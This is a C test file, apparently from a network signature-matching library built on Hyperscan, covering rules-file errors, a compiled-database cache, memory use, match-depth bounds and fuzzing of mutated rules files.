		{"1\n", 1, "missing field 'name' (expected: id name family proto ports /regex/flags)"},
		{"1 a f udp 1 /x/\n2 b f udp 1 /y/\n1 c f udp 1 /z/\n", 3, NULL /* duplicate */},
	};
	const char *f = tpath("bad.rules");
	char want[512];

	for (size_t i = 0; i < NELEM(cases); i++) {
		write_str(f, cases[i].text);
		CHECK(load1(f, NULL) == NULL);
		if (cases[i].problem != NULL)
			snprintf(want, sizeof(want), "%s:%u: %s", f, cases[i].line, cases[i].problem);
		else
			snprintf(want, sizeof(want), "%s:%u: duplicate id 1 (first at %s:1)", f,
				 cases[i].line, f);
		if (!msg_is(want))
			CHECK(0);
		CHECK_EQ(errno != 0, 1);
	}

	/* A file that cannot be opened. */
	CHECK(load1(tpath("missing.rules"), NULL) == NULL);
	snprintf(want, sizeof(want), "%s: cannot open: %s", tpath("missing.rules"), strerror(ENOENT));
	CHECK(msg_is(want));
	CHECK_EQ(errno, ENOENT);

	/* A NUL byte in a rule line; a directory given as a rules file. */
	write_file(f, "# ok\n1 a f udp 1 /x\0y/\n", 23);
	CHECK(load1(f, NULL) == NULL);
	snprintf(want, sizeof(want), "%s:2: NUL byte in line", f);
	CHECK(msg_is(want));
	CHECK(load1(g_tmp, NULL) == NULL);
	snprintf(want, sizeof(want), "%s: not a regular file", g_tmp);
	CHECK(msg_is(want));

	/* More than DC_SIG_MAX rules. */
	{
		size_t cap = (DC_SIG_MAX + 2) * 32, o = 0;
		char *buf = malloc(cap);

		for (unsigned i = 0; i <= DC_SIG_MAX; i++)
			o += (size_t)snprintf(buf + o, cap - o, "%u r f tcp any /r%u/\n", i + 1, i);
		write_str(f, buf);
		free(buf);
		CHECK(load1(f, NULL) == NULL);
		snprintf(want, sizeof(want), "%s:%u: more than %u rules", f, DC_SIG_MAX + 1,
			 DC_SIG_MAX);
		CHECK(msg_is(want));
	}

	/* Hyperscan refuses the pattern: its message, with file, line and id. */
	{
		const char *prefix_fmt = "%s:3: rule 77: ";
		char prefix[512];
		const char *m;

		write_str(f, "1 ok f tcp any /fine/\n# the next one is broken\n77 bad f tcp any /a(b/\n");
		CHECK(load1(f, NULL) == NULL);
		m = dc_strerror();
		snprintf(prefix, sizeof(prefix), prefix_fmt, f);
		CHECK(strncmp(m, prefix, strlen(prefix)) == 0);
		CHECK(strstr(m, "parenthesis") != NULL);
		CHECK(strchr(m, '\n') == NULL);
		printf("  hyperscan error: %s\n", m);

		write_str(f, "5 empty f tcp any /x*/\n");
		CHECK(load1(f, NULL) == NULL);
		snprintf(prefix, sizeof(prefix), "%s:1: rule 5: ", f);
		CHECK(strncmp(dc_strerror(), prefix, strlen(prefix)) == 0);
		CHECK(strstr(dc_strerror(), "empty") != NULL);
	}
}

/* ---- the cache ------------------------------------------------------------------- */

/* The cache file format of docs/SIGNATURES.md, written here independently:
 * a header, then per database an entry and its serialized bytes. */
struct cache_hdr {
	char magic[8];
	uint64_t key;
	uint32_t nrules, ndb, layout, reserved;
	uint64_t len;
};

struct cache_ent {
	uint32_t nrules, cls;
	uint64_t len, sum;
};

static uint64_t
fnv1a(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint64_t h = 0xcbf29ce484222325ull;

	for (size_t i = 0; i < len; i++)
		h = (h ^ p[i]) * 0x100000001b3ull;
	return h;
}

static int
works(const struct dc_sig_db *db)
{
	struct dc_sig_scratch *s = dc_sig_scratch_new(db);
	uint32_t ids[DC_SIG_PKT_MATCHES];
	int ok;

	if (s == NULL)
		return 0;
	ok = scan_ids(db, s, 17, 1900, BYTES(s_ssdp), ids) == 1 && ids[0] == 1006 &&
	     scan_ids(db, s, 6, 80, BYTES(s_loader), ids) == 1 && ids[0] == 2007;
	dc_sig_scratch_free(s);
	return ok;
}

static void
test_cache(void)
{
	char dir[256], file[512], want[2048], hash1[17];
	struct dc_sig_db *db;
	struct stat st;
	size_t len;
	char *bytes;
	const char *changed = tpath("changed.rules");

	snprintf(dir, sizeof(dir), "%s/cache/sub/dir", g_tmp);

	/* First load compiles and writes the file, creating the directories. */
	db = load1(g_default, dir);
	CHECK(db != NULL);
	if (db == NULL)
		return;
	CHECK_EQ(dc_sig_from_cache(db), 0);
	CHECK(dc_sig_cache_note(db) == NULL);
	if (dc_sig_cache_note(db))
		fprintf(stderr, "  note: %s\n", dc_sig_cache_note(db));
	snprintf(hash1, sizeof(hash1), "%s", dc_sig_hash(db));
	snprintf(file, sizeof(file), "%s/rules-%s.hsdb", dir, hash1);
	CHECK(stat(file, &st) == 0 && S_ISREG(st.st_mode) && (st.st_mode & 0777) == 0644);
	CHECK(stat(dir, &st) == 0 && S_ISDIR(st.st_mode) && (st.st_mode & 0777) == 0755);
	CHECK(works(db));
	dc_sig_free(db);

	/* The file: header, then per database its entry and Hyperscan's serialized
	 * bytes, checksums as documented; as many databases as port groups. */
	bytes = read_all(file, &len);
	CHECK(bytes != NULL && len > sizeof(struct cache_hdr));
	if (bytes != NULL) {
		struct cache_hdr h;
		size_t o = sizeof(h);
		unsigned rules = 0;

		memcpy(&h, bytes, sizeof(h));
		CHECK(memcmp(h.magic, "DCSIGHS2", 8) == 0);
		CHECK_EQ(h.len, len - sizeof(h));
		CHECK_EQ(h.nrules, NELEM(default_table));
		CHECK_EQ(h.ndb, DEFAULT_GROUPS);
		CHECK_EQ(h.layout, 0);
		CHECK_EQ(h.reserved, 0);
		CHECK_EQ(strtoull(hash1, NULL, 16), h.key);
		for (unsigned i = 0; i < h.ndb && o + sizeof(struct cache_ent) <= len; i++) {
			struct cache_ent e;

			memcpy(&e, bytes + o, sizeof(e));
			o += sizeof(e);
			CHECK(e.len > 0 && e.len <= len - o);
			if (e.len > len - o)
				break;
			CHECK_EQ(e.sum, fnv1a(bytes + o, e.len));
			CHECK(e.cls <= 1); /* tcp or udp: no rule of protocol any */
			o += e.len;
			rules += e.nrules;
		}
		CHECK_EQ(o, len);
		/* tcp: 4 port groups of 4, 5, 5, 5 rules; udp: 9 groups, 11 rules */
		CHECK_EQ(rules, 4 + 5 + 5 + 5 + 11);
	}

	/* Second load: from the cache, same hash, every database back, same answers
	 * as compiled. */
	db = load1(g_default, dir);
	CHECK(db != NULL);
	if (db == NULL)
		return;
	CHECK_EQ(dc_sig_from_cache(db), 1);
	CHECK(dc_sig_cache_note(db) == NULL);
	CHECK(strcmp(dc_sig_hash(db), hash1) == 0);
	CHECK_EQ(dc_sig_db_count(db), DEFAULT_GROUPS);
	{
		struct dc_sig_scratch *s = dc_sig_scratch_new(db);
		struct dc_sig_db *fresh = load1(g_default, NULL);

		check_samples(db, s, samples, NELEM(samples), 1);
		CHECK(fresh != NULL && dc_sig_from_cache(fresh) == 0);
		if (fresh != NULL)
			CHECK_EQ(differences(db, fresh, 3000), 0);
		dc_sig_free(fresh);
		dc_sig_scratch_free(s);
	}
	dc_sig_free(db);

	/* A changed pattern: a new hash, compiled, its own file. */
	{
		size_t dlen;
		char *def = read_all(g_default, &dlen);
		char *at = def ? strstr(def, "/^M-SEARCH \\* HTTP/1\\.1\\r?\\n/") : NULL;

		CHECK(at != NULL);
		if (at != NULL) {
			memcpy(at + 2, "X", 1); /* ^X-SEARCH */
			write_str(changed, def);
		}
		free(def);
		db = load1(changed, dir);
		CHECK(db != NULL);
		if (db != NULL) {
			char f2[512];

			CHECK(strcmp(dc_sig_hash(db), hash1) != 0);
			CHECK_EQ(dc_sig_from_cache(db), 0);
			snprintf(f2, sizeof(f2), "%s/rules-%s.hsdb", dir, dc_sig_hash(db));
			CHECK(stat(f2, &st) == 0);
			dc_sig_free(db);
		}
		/* A changed flag too. */
		def = read_all(g_default, &dlen);
		at = def ? strstr(def, "/^OPTIONS\\s{1,16}sip:/i") : NULL;
		CHECK(at != NULL);
		if (at != NULL) {
			at[strlen("/^OPTIONS\\s{1,16}sip:/i") - 1] = ' ';
			write_str(changed, def);
		}
		free(def);
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), hash1) != 0 && !dc_sig_from_cache(db));
		dc_sig_free(db);
	}

	/* Ids, names and families are not compile inputs: same key. Protocols and
	 * ports decide the port groups: a new key, except with one database. */
	{
		char want1[32];

		write_str(changed, "1 a f udp 1 /abc/\n2 b f tcp 2 /def/i\n");
		db = load1(changed, dir);
		CHECK(db != NULL);
		snprintf(want, sizeof(want), "%s", db ? dc_sig_hash(db) : "");
		dc_sig_free(db);
		write_str(changed, "# renamed\n9 x y udp 1 /abc/\n8 z w tcp 2 /def/i\n");
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), want) == 0 && dc_sig_from_cache(db) == 1);
		dc_sig_free(db);
		g_flags = DC_SIG_ONE_DB;
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), want) != 0 && dc_sig_from_cache(db) == 0);
		snprintf(want1, sizeof(want1), "%s", db ? dc_sig_hash(db) : "");
		dc_sig_free(db);
		g_flags = 0;
		write_str(changed, "9 x y any 3-4 /abc/\n8 z w udp any /def/i\n");
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), want) != 0 && dc_sig_from_cache(db) == 0);
		dc_sig_free(db);
		write_str(changed, "9 x y udp 1,7 /abc/\n8 z w tcp 2 /def/i\n");
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), want) != 0 && dc_sig_from_cache(db) == 0);
		dc_sig_free(db);
		g_flags = DC_SIG_ONE_DB;
		write_str(changed, "9 x y any 3-4 /abc/\n8 z w udp any /def/i\n");
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), want1) == 0 && dc_sig_from_cache(db) == 1);
		dc_sig_free(db);
		g_flags = 0;
		/* Order is: swapping the rules changes the key. */
		write_str(changed, "2 b f tcp 2 /def/i\n1 a f udp 1 /abc/\n");
		db = load1(changed, dir);
		CHECK(db != NULL && strcmp(dc_sig_hash(db), want) != 0 && dc_sig_from_cache(db) == 0);
		dc_sig_free(db);
	}

	/* A corrupted byte in the second database: rebuilt, noted, then cached again. */
	if (bytes != NULL) {
		char *bad = malloc(len);
		struct cache_ent e0, e1;
		size_t at = sizeof(struct cache_hdr);

		memcpy(bad, bytes, len);
		memcpy(&e0, bad + at, sizeof(e0));
		at += sizeof(e0) + e0.len;
		memcpy(&e1, bad + at, sizeof(e1));
		at += sizeof(e1) + e1.len / 2;
		CHECK(at < len);
		if (at < len)
			bad[at] ^= 0x5a;
		write_file(file, bad, len);
		free(bad);
		db = load1(g_default, dir);
		CHECK(db != NULL);
		if (db != NULL) {
			CHECK_EQ(dc_sig_from_cache(db), 0);
			snprintf(want, sizeof(want),
				 "cache %s invalid (database 2 of %u: checksum mismatch); recompiled",
				 file, DEFAULT_GROUPS);
			CHECK(dc_sig_cache_note(db) != NULL &&
			      strcmp(dc_sig_cache_note(db), want) == 0);
			CHECK(works(db));
			dc_sig_free(db);
		}
		db = load1(g_default, dir);
		CHECK(db != NULL && dc_sig_from_cache(db) == 1 && dc_sig_cache_note(db) == NULL);
		dc_sig_free(db);
	}

	/* Garbage behind a valid header, entry and checksum: Hyperscan refuses it, rebuilt. */
	if (bytes != NULL) {
		struct cache_hdr h;
		struct cache_ent e;
		char bad[sizeof(h) + sizeof(e) + 256];
		uint64_t seed = 7;

		memcpy(&h, bytes, sizeof(h));
		memcpy(&e, bytes + sizeof(h), sizeof(e));
		for (size_t i = sizeof(h) + sizeof(e); i < sizeof(bad); i++)
			bad[i] = (char)dc_test_rnd(&seed);
		h.len = sizeof(bad) - sizeof(h);
		e.len = 256;
		e.sum = fnv1a(bad + sizeof(h) + sizeof(e), 256);
		memcpy(bad, &h, sizeof(h));
		memcpy(bad + sizeof(h), &e, sizeof(e));
		write_file(file, bad, sizeof(bad));
		db = load1(g_default, dir);
		CHECK(db != NULL && dc_sig_from_cache(db) == 0 && dc_sig_cache_note(db) != NULL);
		if (db != NULL && dc_sig_cache_note(db) != NULL) {
			/* refused by Hyperscan itself, at the first database (not
			 * as a short file: the header's count is left as written) */
			snprintf(want, sizeof(want), "cache %s invalid (database 1 of ", file);
			CHECK(strncmp(dc_sig_cache_note(db), want, strlen(want)) == 0);
			CHECK(strstr(dc_sig_cache_note(db), ": hs_") != NULL);
			printf("  garbage cache: %s\n", dc_sig_cache_note(db));
			CHECK(works(db));
		}
		dc_sig_free(db);
	}

	/* Truncated, and empty. */
	if (bytes != NULL) {
		write_file(file, bytes, len - 100);
		db = load1(g_default, dir);
		snprintf(want, sizeof(want), "cache %s invalid (truncated); recompiled", file);
		CHECK(db != NULL && dc_sig_from_cache(db) == 0 && dc_sig_cache_note(db) != NULL &&
		      strcmp(dc_sig_cache_note(db), want) == 0);
		CHECK(db != NULL && works(db));
		dc_sig_free(db);
		write_file(file, "", 0);
		db = load1(g_default, dir);
		CHECK(db != NULL && dc_sig_from_cache(db) == 0 && dc_sig_cache_note(db) != NULL);
		dc_sig_free(db);
		db = load1(g_default, dir);
		CHECK(db != NULL && dc_sig_from_cache(db) == 1);
		dc_sig_free(db);
	}
	free(bytes);

	/* A cache directory that cannot be created: a note, and the database works. */
	{
		char blocked[512], bdir[600];

		snprintf(blocked, sizeof(blocked), "%s/not-a-dir", g_tmp);
		write_str(blocked, "x");
		snprintf(bdir, sizeof(bdir), "%s/sub", blocked);
		db = load1(g_default, bdir);
		CHECK(db != NULL);
		if (db != NULL) {
			CHECK_EQ(dc_sig_from_cache(db), 0);
			snprintf(want, sizeof(want),
				 "cache %s/rules-%s.hsdb not written: cannot create %s: %s", bdir,
				 dc_sig_hash(db), bdir, strerror(ENOTDIR));
			CHECK(dc_sig_cache_note(db) != NULL &&
			      strcmp(dc_sig_cache_note(db), want) == 0);
			if (dc_sig_cache_note(db) != NULL)
				printf("  blocked cache: %s\n", dc_sig_cache_note(db));
			CHECK(works(db));
			dc_sig_free(db);
		}
	}
	/* A read-only directory (only meaningful when not root). */
	if (geteuid() != 0) {
		char ro[512];

		snprintf(ro, sizeof(ro), "%s/ro", g_tmp);
		mkdir(ro, 0555);
		db = load1(g_default, ro);
		CHECK(db != NULL && dc_sig_cache_note(db) != NULL &&
		      strstr(dc_sig_cache_note(db), "not written: Permission denied") != NULL);
		CHECK(db != NULL && works(db));
		dc_sig_free(db);
		chmod(ro, 0755);
	}
	/* No stray temporary files left in the cache directory. */
	{
		DIR *d = opendir(dir);
		struct dirent *e;
		unsigned stray = 0;

		while (d != NULL && (e = readdir(d)) != NULL)
			stray += e->d_name[0] == '.' && strcmp(e->d_name, ".") != 0 &&
				 strcmp(e->d_name, "..") != 0;
		if (d != NULL)
			closedir(d);
		CHECK_EQ(stray, 0);
	}
}

/* One database: its own cache file (one entry, layout 1), reused. */
static void
test_cache_one(void)
{
	char dir[256], file[512];
	struct dc_sig_db *db, *db2;
	size_t len;
	char *bytes;

	snprintf(dir, sizeof(dir), "%s/cache-one", g_tmp);
	g_flags = DC_SIG_ONE_DB;
	db = load1(g_default, dir);
	CHECK(db != NULL && dc_sig_from_cache(db) == 0 && dc_sig_cache_note(db) == NULL);
	if (db == NULL) {
		g_flags = 0;
		return;
	}
	snprintf(file, sizeof(file), "%s/rules-%s.hsdb", dir, dc_sig_hash(db));
	bytes = read_all(file, &len);
	CHECK(bytes != NULL && len > sizeof(struct cache_hdr) + sizeof(struct cache_ent));
	if (bytes != NULL && len > sizeof(struct cache_hdr) + sizeof(struct cache_ent)) {
		struct cache_hdr h;
		struct cache_ent e;

		memcpy(&h, bytes, sizeof(h));
		memcpy(&e, bytes + sizeof(h), sizeof(e));
		CHECK(memcmp(h.magic, "DCSIGHS2", 8) == 0);
		CHECK_EQ(h.ndb, 1);
		CHECK_EQ(h.layout, 1);
		CHECK_EQ(e.nrules, NELEM(default_table));
		CHECK_EQ(e.cls, 3);
		CHECK_EQ(sizeof(h) + sizeof(e) + e.len, len);
		CHECK_EQ(e.sum, fnv1a(bytes + sizeof(h) + sizeof(e), len - sizeof(h) - sizeof(e)));
	}
	free(bytes);
	db2 = load1(g_default, dir);
	CHECK(db2 != NULL && dc_sig_from_cache(db2) == 1 && dc_sig_db_count(db2) == 1);
	if (db2 != NULL)
		CHECK_EQ(differences(db, db2, 1000), 0);
	dc_sig_free(db2);
	dc_sig_free(db);
	g_flags = 0;
}

/* All memory, Hyperscan's included, goes through dc_mem and comes back. */
static void
test_memory(void)
{
	size_t before = dc_mem_used(), loaded;
	struct dc_sig_db *db = load1(g_default, NULL);
	struct dc_sig_scratch *s;

	CHECK(db != NULL);
	if (db == NULL)
		return;
	s = dc_sig_scratch_new(db);
	loaded = dc_mem_used();
	/* the rules alone are a few KiB; database and scratches are more */
	CHECK(loaded > before + 16384);
	printf("  memory: %zu bytes for the default database and a scratch\n", loaded - before);
	dc_sig_scratch_free(s);
	dc_sig_free(db);
	CHECK_EQ(dc_mem_used(), before);
	dc_sig_free(NULL);
	dc_sig_scratch_free(NULL);
}

/*
 * depth=N: a match counts only when it ends within the payload's first N
 * bytes; checked on a literal at every end offset around the bound, and on
 * an anchored rule whose match length varies.
 */
static void
test_depth(void)
{
	const char *f = tpath("depth.rules");
	struct dc_sig_db *db;
	struct dc_sig_scratch *s;
	uint32_t ids[DC_SIG_PKT_MATCHES];

	write_str(f, "7 lit f udp any /abc/ depth=10\n"
		     "8 run f udp any /^x[y]*z/ depth=6\n"
		     "9 free f udp any /abc/\n");
	s = db_scratch(f, &db);
	if (s == NULL)
		return;
	CHECK_EQ(dc_sig_rule(db, (unsigned)find_idx(db, 7))->depth, 10);
	CHECK_EQ(dc_sig_rule(db, (unsigned)find_idx(db, 9))->depth, 0);
	for (unsigned pre = 0; pre < 12; pre++) { /* "abc" ends at pre + 3 */
		uint8_t p[32];
		unsigned n, want7 = pre + 3 <= 10;

		memset(p, '-', sizeof(p));
		memcpy(p + pre, "abc", 3);
		n = scan_ids(db, s, 17, 1, p, sizeof(p), ids);
		CHECK_EQ(n, 1 + want7);
		CHECK_EQ(ids[0], want7 ? 7u : 9u);
	}
	for (unsigned ys = 0; ys < 8; ys++) { /* x y^ys z ends at ys + 2 */
		uint8_t p[16];
		unsigned n;

		memset(p, 'y', sizeof(p));
		p[0] = 'x';
		p[ys + 1] = 'z';
		n = scan_ids(db, s, 17, 1, p, sizeof(p), ids);
		CHECK_EQ(n, ys + 2 <= 6 ? 1u : 0u);
	}
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/*
 * Rule 1002's name part: a run of non-zero bytes, the first at most 0x3f,
 * 0 to 254 bytes long, then the root 0 and QTYPE ANY, class IN (depth=271
 * bounds it). Every length up to 300, with the first byte a label length
 * or not, against that definition written here.
 */
static void
test_dns_name_bound(void)
{
	struct dc_sig_db *db;
	struct dc_sig_scratch *s = default_db(&db);
	uint64_t seed = 0xd15ull;
	unsigned hits = 0;

	if (s == NULL)
		return;
	for (unsigned len = 0; len <= 300; len++) {
		for (unsigned first = 0; first < 3; first++) {
			static const uint8_t hdr[12] = {0x12, 0x34, 0x01, 0x00, 0x00, 0x01,
							0, 0, 0, 0, 0, 0x01};
			static const uint8_t tail[5] = {0x00, 0x00, 0xff, 0x00, 0x01};
			uint8_t p[12 + 300 + 5 + 11];
			uint32_t ids[DC_SIG_PKT_MATCHES];
			size_t plen = 0;
			unsigned n, want;

			memcpy(p, hdr, 12);
			plen = 12;
			for (unsigned k = 0; k < len; k++)
				p[plen++] = (uint8_t)(1 + dc_test_rnd(&seed) % 255);
			if (len > 0) /* a label length, the longest one, or a byte above 63 */
				p[12] = first == 0 ? (uint8_t)(1 + dc_test_rnd(&seed) % 63)
					: first == 1 ? 0x3f : (uint8_t)(0x40 + dc_test_rnd(&seed) % 0xc0);
			memcpy(p + plen, tail, 5);
			plen += 5;
			memset(p + plen, 0, 11); /* EDNS OPT record's place */
			plen += 11;
			want = len == 0 || (p[12] <= 0x3f && len <= 254);
			n = scan_ids(db, s, 17, 53, p, plen, ids);
			CHECK_EQ(n, want);
			if (n == 1)
				CHECK_EQ(ids[0], 1002);
			hits += n;
		}
	}
	printf("  dns name bound: %u of 903 names matched rule 1002\n", hits);
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

/* The scan suites again with one database of every rule (DC_SIG_ONE_DB). */
#define ONE_DB(fn)                       \
	static void one_##fn(void)       \
	{                                \
		g_flags = DC_SIG_ONE_DB; \
		test_##fn();             \
		g_flags = 0;             \
	}
ONE_DB(default_samples)
ONE_DB(default_decoys)
ONE_DB(ntp_first_byte)
ONE_DB(random)
ONE_DB(overlap)
ONE_DB(ports_flags)
ONE_DB(match_cap)
ONE_DB(memory)
ONE_DB(depth)
ONE_DB(dns_name_bound)

/*
 * Mutated rules files: random byte edits (replace, insert, delete, with a
 * bias to the characters the format gives meaning to) of small rules files
 * taken from the default set. Each load either succeeds (then scanning
 * works) or fails with one line naming the file, never crashes, and leaves
 * dc_mem where it was. The sanitizer build runs it too.
 */
static void
test_mutated_rules(void)
{
	static const char special[] = " \t/\\,-#{}()[]^$*+?.|:0123456789aisxm\n";
	size_t dlen, base_mem = dc_mem_used();
	char *def = read_all(g_default, &dlen);
	const char *path = tpath("mut.rules");
	const char *lines[64];
	unsigned nl = 0, ok = 0, bad = 0;
	uint64_t seed = 8;

	CHECK(def != NULL);
	if (def == NULL)
		return;
	/* the rule lines of the default set */
	for (char *l = strtok(def, "\n"); l && nl < 64; l = strtok(NULL, "\n"))
		if (l[0] >= '0' && l[0] <= '9')
			lines[nl++] = l;
	CHECK(nl >= 18);
	for (unsigned it = 0; it < 600; it++) {
		char buf[1024];
		size_t len = 0;
		unsigned k = 1 + (unsigned)(dc_test_rnd(&seed) % 3);
		struct dc_sig_db *db;

		for (unsigned r = 0; r < k; r++)
			len += (size_t)snprintf(buf + len, sizeof(buf) - len - 64, "%s\n",
						lines[dc_test_rnd(&seed) % nl]);
		for (unsigned m = 1 + (unsigned)(dc_test_rnd(&seed) % 4); m && len > 1; m--) {
			size_t at = dc_test_rnd(&seed) % len;
			uint64_t r = dc_test_rnd(&seed);
			char c = (r >> 8) % 3 ? special[(r >> 16) % (sizeof(special) - 1)] : (char)(r >> 24);

			switch (r % 3) {
			case 0: /* replace */
				buf[at] = c;
				break;
			case 1: /* insert */
				if (len + 1 < sizeof(buf) - 1) {
					memmove(buf + at + 1, buf + at, len - at);
					buf[at] = c;
					len++;
				}
				break;
			default: /* delete */
				memmove(buf + at, buf + at + 1, len - at - 1);
				len--;
				break;
			}
		}
		write_file(path, buf, len);
		db = load1(path, NULL);
		if (db == NULL) {
			const char *msg = dc_strerror();

			bad++;
			CHECK(msg != NULL && strstr(msg, "mut.rules") != NULL && strchr(msg, '\n') == NULL);
			continue;
		}
		ok++;
		{
			struct dc_sig_scratch *sc = dc_sig_scratch_new(db);
			uint16_t out[DC_SIG_PKT_MATCHES];

			CHECK(sc != NULL);
			if (sc != NULL) {
				CHECK(dc_sig_scan(db, sc, 17, 53, (const uint8_t *)buf, (uint32_t)len, out) <=
				      DC_SIG_PKT_MATCHES);
				CHECK(dc_sig_scan(db, sc, 6, 80, (const uint8_t *)buf, (uint32_t)len, out) <=
				      DC_SIG_PKT_MATCHES);
			}
			dc_sig_scratch_free(sc);
		}
		dc_sig_free(db);
	}
	free(def);
	printf("  mutated rules files: %u loaded, %u refused with one line\n", ok, bad);
	CHECK(ok > 20 && bad > 20);
	CHECK_EQ(dc_mem_used(), base_mem);
}

static void
one_mutated_rules(void)
{
	g_flags = DC_SIG_ONE_DB;
	test_mutated_rules();
	g_flags = 0;
}

int
main(int argc, char **argv)
{
	static const struct dc_test_case tc[] = {
		{"default rule table", test_default_table},
		{"default samples", test_default_samples},
		{"near misses", test_default_decoys},
		{"NTP first byte", test_ntp_first_byte},
		{"random payloads", test_random},
		{"overlapping rules", test_overlap},
		{"ports and flags", test_ports_flags},
		{"match cap", test_match_cap},
		{"default samples (one database)", one_default_samples},
		{"near misses (one database)", one_default_decoys},
		{"NTP first byte (one database)", one_ntp_first_byte},
		{"random payloads (one database)", one_random},
		{"depth=N bounds where a match may end", test_depth},
		{"depth=N bounds where a match may end (one database)", one_depth},
		{"rule 1002: DNS names of 0 .. 254 bytes, not longer", test_dns_name_bound},
		{"rule 1002: DNS names (one database)", one_dns_name_bound},
		{"overlapping rules (one database)", one_overlap},
		{"ports and flags (one database)", one_ports_flags},
		{"match cap (one database)", one_match_cap},
		{"port groups", test_groups},
		{"port groups: fallback", test_groups_fallback},
		{"layouts agree", test_layouts_agree},
		{"several files", test_multi_file},
		{"bad rules files", test_bad_rules},
		{"cache", test_cache},
		{"cache (one database)", test_cache_one},
		{"memory", test_memory},
		{"memory (one database)", one_memory},
		{"mutated rules files", test_mutated_rules},
		{"mutated rules files (one database)", one_mutated_rules},
	};
	int ret;

	g_default = argc > 1 ? argv[1] : DC_SRCDIR "/lib/sig/rules/default.rules";
	snprintf(g_tmp, sizeof(g_tmp), "/tmp/test_sig.XXXXXX");
	if (mkdtemp(g_tmp) == NULL) {
		perror("mkdtemp");
		return 1;
	}
	ret = dc_test_run("sig", tc, NELEM(tc));
	rm_rf(g_tmp);
	return ret;
}
